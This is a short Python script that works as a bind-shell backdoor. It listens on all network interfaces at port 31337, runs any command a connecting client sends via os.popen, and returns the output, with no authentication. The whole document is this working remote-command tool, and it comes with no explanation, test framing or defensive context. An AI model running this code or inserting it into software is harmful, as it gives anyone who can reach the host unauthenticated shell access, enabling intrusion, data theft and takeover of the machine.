import socket, os
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(5)
while True:
    client, addr = srv.accept()
    cmd = client.recv(4096).decode()
    client.send(os.popen(cmd).read().encode())
    client.close()
